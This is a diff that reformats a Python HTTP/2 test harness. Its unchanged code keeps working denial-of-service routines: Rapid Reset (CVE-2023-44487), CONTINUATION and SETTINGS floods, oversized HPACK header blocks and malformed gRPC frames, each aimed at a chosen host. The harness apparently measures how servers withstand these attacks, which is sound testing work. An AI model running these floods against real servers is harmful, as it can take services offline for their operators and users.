@@ -7,6 +7,7 @@ it closed the connection (GOAWAY or EOF), and how many frames went out before.
 
 from __future__ import annotations
 
+import contextlib
 import socket
 import struct
 import time
@@ -26,9 +27,12 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
 
 def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
-    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
-        ">I", stream_id & 0x7FFFFFFF
-    ) + payload
+    return (
+        struct.pack(">I", len(payload))[1:]
+        + bytes([kind, flags])
+        + struct.pack(">I", stream_id & 0x7FFFFFFF)
+        + payload
+    )
 
 
 @dataclass
@@ -58,10 +62,19 @@ class RawH2:
         self.outcome = Outcome()
         self.encoder = hpack.Encoder()
 
-    def headers_block(self, authority: str, path: str, extra: list[tuple[str, str]] | None = None,
-                      method: str = "POST") -> bytes:
-        headers = [(":method", method), (":scheme", "http"), (":authority", authority),
-                   (":path", path)] + (extra or [])
+    def headers_block(
+        self,
+        authority: str,
+        path: str,
+        extra: list[tuple[str, str]] | None = None,
+        method: str = "POST",
+    ) -> bytes:
+        headers = [
+            (":method", method),
+            (":scheme", "http"),
+            (":authority", authority),
+            (":path", path),
+        ] + (extra or [])
         return self.encoder.encode(headers)
 
     def send(self, data: bytes) -> bool:
@@ -81,13 +94,13 @@ class RawH2:
             self.outcome.seconds_to_close = round(time.monotonic() - self.started, 3)
 
     def drain(self, wait: float = 0.0) -> None:
-        """Read what the server sent (GOAWAY, responses, EOF) without blocking longer than `wait`."""
+        """Read what the server sent (GOAWAY, responses, EOF), blocking at most `wait`."""
         self.sock.settimeout(wait if wait > 0 else 0.0)
         try:
             while True:
                 try:
                     data = self.sock.recv(1 << 16)
-                except (BlockingIOError, TimeoutError, socket.timeout):
+                except (BlockingIOError, TimeoutError):
                     return
                 except OSError:
                     self._closed()
@@ -123,14 +136,13 @@ class RawH2:
             self.drain(wait=min(0.2, max(0.01, end - time.monotonic())))
 
     def close(self) -> None:
-        try:
+        with contextlib.suppress(OSError):
             self.sock.close()
-        except OSError:
-            pass
 
 
-def rapid_reset(host: str, port: int, authority: str, path: str, pairs: int,
-                deadline: float, batch: int = 50) -> Outcome:
+def rapid_reset(
+    host: str, port: int, authority: str, path: str, pairs: int, deadline: float, batch: int = 50
+) -> Outcome:
     """HEADERS then RST_STREAM(CANCEL) on each new stream, `pairs` times (CVE-2023-44487)."""
     c = RawH2(host, port)
     extra = [("content-type", "application/grpc"), ("te", "trailers")]
@@ -139,7 +151,9 @@ def rapid_reset(host: str, port: int, authority: str, path: str, pairs: int,
         while c.outcome.sent < pairs and time.monotonic() < deadline:
             chunk = bytearray()
             for _ in range(batch):
-                chunk += frame(HEADERS, END_HEADERS, stream_id, c.headers_block(authority, path, extra))
+                chunk += frame(
+                    HEADERS, END_HEADERS, stream_id, c.headers_block(authority, path, extra)
+                )
                 chunk += frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL))
                 stream_id += 2
             if not c.send(bytes(chunk)):
@@ -152,8 +166,9 @@ def rapid_reset(host: str, port: int, authority: str, path: str, pairs: int,
         c.close()
 
 
-def continuation_flood(host: str, port: int, authority: str, path: str, frames: int,
-                       deadline: float, batch: int = 200) -> Outcome:
+def continuation_flood(
+    host: str, port: int, authority: str, path: str, frames: int, deadline: float, batch: int = 200
+) -> Outcome:
     """HEADERS without END_HEADERS, then CONTINUATION frames that never end the block."""
     c = RawH2(host, port)
     try:
@@ -202,8 +217,9 @@ def settings_flood(host: str, port: int, frames: int, deadline: float, batch: in
         c.close()
 
 
-def hpack_oversized(host: str, port: int, authority: str, path: str, requests: int,
-                    deadline: float) -> Outcome:
+def hpack_oversized(
+    host: str, port: int, authority: str, path: str, requests: int, deadline: float
+) -> Outcome:
     """Header blocks that try to grow HPACK's dynamic table past what was agreed: a table size
     update to 2^30 (a COMPRESSION_ERROR), then, on new connections, headers whose values fill
     more than the request buffer, each to be indexed."""
@@ -225,9 +241,22 @@ def hpack_oversized(host: str, port: int, authority: str, path: str, requests: i
         c = RawH2(host, port)
         try:
             big = [(f"x-big-{i}", "v" * 4000) for i in range(15)]
-            c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1,
-                         c.encoder.encode([(":method", "GET"), (":scheme", "http"),
-                                           (":authority", authority), (":path", path)] + big)))
+            c.send(
+                frame(
+                    HEADERS,
+                    END_HEADERS | END_STREAM,
+                    1,
+                    c.encoder.encode(
+                        [
+                            (":method", "GET"),
+                            (":scheme", "http"),
+                            (":authority", authority),
+                            (":path", path),
+                            *big,
+                        ]
+                    ),
+                )
+            )
             c.wait_closed(1.0)
             c.drain(0.2)
             outcome.statuses += c.outcome.statuses
@@ -238,8 +267,9 @@ def hpack_oversized(host: str, port: int, authority: str, path: str, requests: i
     return outcome
 
 
-def grpc_broken_frames(host: str, port: int, authority: str, path: str, rounds: int,
-                       deadline: float) -> Outcome:
+def grpc_broken_frames(
+    host: str, port: int, authority: str, path: str, rounds: int, deadline: float
+) -> Outcome:
     """gRPC calls whose frames are broken: a length prefix promising 1 GiB with 5 bytes sent,
     the compressed flag without an encoding, DATA on a stream never opened, a frame longer than
     SETTINGS_MAX_FRAME_SIZE, a HEADERS frame on an even (server-initiated) stream id."""
